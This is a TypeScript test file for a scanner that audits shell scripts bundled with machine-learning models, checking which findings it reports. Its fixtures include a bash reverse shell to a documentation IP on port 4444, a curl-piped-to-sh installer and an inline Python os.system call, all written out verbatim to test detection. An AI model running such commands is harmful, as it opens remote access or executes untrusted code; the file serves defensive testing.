import type { FormatHandler } from "@modelaudit/core";
import { API_VERSION, definePlugin } from "@modelaudit/core";
import { scanBytes } from "@modelaudit/core/testing";
import { describe, expect, it } from "vitest";
import plugin from "../src/index.js";

/** Test-only handler: a `.sh` file is a shell code fact, as format-executable emits shebang scripts. */
const shellScriptPlugin = definePlugin({
  meta: { name: "test-shell-script", version: "0.0.0" },
  apiVersion: API_VERSION,
  formats: [
    {
      id: "test-shell-script",
      description: "test-only: .sh files as shell code facts",
      sniff: (input) => input.extension === ".sh",
      async parse(context) {
        const text = new TextDecoder().decode(await context.source.read(0, context.source.size));
        context.emit({ kind: "code", language: "shell", text, location: { path: "run.sh" } });
      },
    } satisfies FormatHandler,
  ],
});

const scan = (script: string) => scanBytes("run.sh", new TextEncoder().encode(script), [shellScriptPlugin, plugin]);

describe("shell scripts shipped with a model", () => {
  it("an ordinary serving script passes", async () => {
    const report = await scan(
      "#!/bin/sh\nset -e\n# start the server\nexport MODEL_DIR=./model\npip install -r requirements.txt\n" +
        'if [ -n "$GPU" ]; then\n  python serve.py --model "$MODEL_DIR" \\\n    --port 8080\nfi\nrm -rf ./cache\n',
    );
    expect(report.findings.filter((finding) => finding.severity !== "info")).toEqual([]);
  });

  it("a reverse shell is critical, on its line", async () => {
    const report = await scan("#!/bin/bash\necho start\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
    const finding = report.findings.find((item) => item.messageId === "shellReverseShell");
    expect(finding?.severity).toBe("critical");
    expect(finding?.message).toMatch(/^Line 3 of the script is a shell command line/);
    expect(finding?.location?.line).toBe(3);
  });

  it("an installer piped into sh is a warning in a script, inline Python is judged as Python", async () => {
    const report = await scan(
      "#!/bin/sh\ncurl -fsSL https://example.com/install.sh | sh\npython3 -c \"import os; os.system('id')\"\n",
    );
    const byMessage = new Map(report.findings.map((finding) => [finding.messageId, finding]));
    expect(byMessage.get("shellDownloadExecute")?.severity).toBe("warning");
    expect(byMessage.get("processCall")?.severity).toBe("critical");
    expect(byMessage.get("processCall")?.location?.line).toBe(3);
  });
});
